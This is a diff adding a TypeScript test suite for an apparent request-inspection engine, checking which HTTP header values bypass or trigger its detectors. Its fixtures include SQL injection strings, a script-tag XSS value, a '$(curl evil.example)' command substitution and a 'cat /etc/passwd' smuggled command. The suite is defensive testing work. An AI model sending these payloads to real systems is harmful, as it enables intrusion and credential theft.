@@ -1,0 +1,59 @@
+// Routine headers are left out of the detectors only when their value has the shape its
+// header allows; any other value is inspected (attackers choose header values too).
+import { beforeAll, describe, expect, it } from "vitest";
+import { loadHarness, type Harness } from "../support/harness.js";
+import { inspect, targetsOf } from "../support/engine.js";
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const inspected = (name: string, value: string) =>
+  targetsOf(h, { headers: [["host", "h"], [name, value]] }).targets.some((t) => t.name === `header:${name}`);
+
+describe("routine headers", () => {
+  const plain: [string, string][] = [
+    ["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"],
+    ["x-request-id", "3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f"],
+    ["x-b3-traceid", "80f198ee56343ba864fe8b2a57d3eff7"],
+    ["accept-encoding", "gzip, deflate, br;q=0.9, *;q=0.1"],
+    ["cache-control", "max-age=0, no-cache"],
+    ["keep-alive", "timeout=5, max=1000"],
+    ["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
+    ["sec-ch-ua", '"Not/A)Brand";v="8", "Chromium";v="126"'],
+    ["sec-ch-ua-mobile", "?0"],
+    ["sec-ch-ua-platform", '"Linux"'],
+    ["sec-fetch-mode", "navigate"],
+    ["tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"],
+    ["x-envoy-peer-metadata", "ChwKDkFQUF9DT05UQUlORVJTEgoaCGh0dHBiaW4="],
+    ["x-forwarded-client-cert", 'By=spiffe://cluster.local/ns/db/sa/db;Hash=4f2c;Subject="";URI=spiffe://cluster.local/ns/auth/sa/auth'],
+  ];
+  for (const [name, value] of plain) {
+    it(`leaves out ${name}: ${value}`, () => expect(inspected(name, value)).toBe(false));
+  }
+
+  const odd: [string, string][] = [
+    ["traceparent", "00-4bf92f35' OR '1'='1"],
+    ["x-request-id", "1' UNION SELECT password FROM users--"],
+    ["x-request-id", "$(curl evil.example)"],
+    ["accept-encoding", "gzip; cat /etc/passwd"],
+    ["cache-control", "no-cache, <script>alert(1)</script>"],
+    ["sec-ch-ua", '"x\' or 1=1 --";v="1"'],
+    ["sec-ch-ua", '"sleep(5)";v="1"'],
+    ["x-forwarded-client-cert", 'By=x;Subject="CN=a\' or \'1\'=\'1"'],
+    ["host", "h'; DROP TABLE users"],
+    ["tracestate", "rojo=1 union select password from users"],
+    ["sec-ch-ua", '"union select password from users";v="1"'],
+    ["cache-control", "no-cache union select password"],
+  ];
+  for (const [name, value] of odd) {
+    it(`inspects ${name}: ${value}`, () => expect(inspected(name, value)).toBe(true));
+  }
+
+  it("blocks an injection in a routine header", () => {
+    const verdict = inspect(h, { headers: [["host", "h"], ["x-request-id", "1' UNION SELECT password FROM users--"]] });
+    expect(verdict.attack).toBe(true);
+    expect(verdict.matches.some((m) => m.target === "header:x-request-id")).toBe(true);
+  });
+});
